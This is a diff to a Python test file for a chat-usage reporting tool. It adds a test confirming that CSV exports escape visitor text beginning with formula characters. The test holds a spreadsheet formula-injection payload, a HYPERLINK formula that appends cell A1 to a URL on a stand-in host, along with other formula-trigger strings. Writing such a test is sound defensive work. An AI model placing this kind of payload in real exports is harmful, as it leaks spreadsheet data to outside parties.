@@ -4,6 +4,8 @@ feedback), on the machine's local days."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 import time
@@ -17,7 +19,10 @@ from history.conversation import REPLY
 from history.schema import open_database
 from insights.__main__ import main
 from insights.days import History
-from insights.usage import combined, percentiles, period, tokens_today
+from insights.documents import DocumentUse
+from insights.report import Report, as_csv, as_json
+from insights.unanswered import Unanswered
+from insights.usage import DayUsage, combined, percentiles, period, tokens_today
 
 pytestmark = pytest.mark.fast
 
@@ -148,3 +153,14 @@ def test_an_ended_day_is_read_once_and_again_when_its_steps_or_feedback_change(d
     assert (figures(date(2026, 12, 9)).thumbs_up, figures(date(2026, 12, 9)).thumbs_down) == (1, 2)
     execute('DELETE FROM steps WHERE "threadId" IN (SELECT "id" FROM threads WHERE "userIdentifier" = \'bob\')')
     assert figures(date(2026, 12, 9)).questions == 3  # retention took bob's chat
+
+
+def test_a_visitors_formula_is_text_in_the_csv():
+    """A question is a visitor's text: "=HYPERLINK(…)" must not run when the operator opens the CSV in a spreadsheet."""
+    hostile = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
+    group = Unanswered(hostile, 2, "2026-12-02T02:00:00Z", "tour_guide", {"no_source": 2}, [hostile, "-1+1"])
+    report = Report(combined({date(2026, 12, 2): DayUsage.empty()}), [group], DocumentUse({"@home": 1}, {}, []))
+    row = next(csv.DictReader(io.StringIO(as_csv(report, "unanswered"))))
+    assert row["question"] == "'" + hostile and row["wordings"] == f"'{hostile} | -1+1" and row["asked"] == "2"
+    assert as_csv(report, "documents").splitlines()[1] == "'@home,1"
+    assert json.loads(as_json(report, "unanswered"))[0]["question"] == hostile  # JSON is data, not a sheet
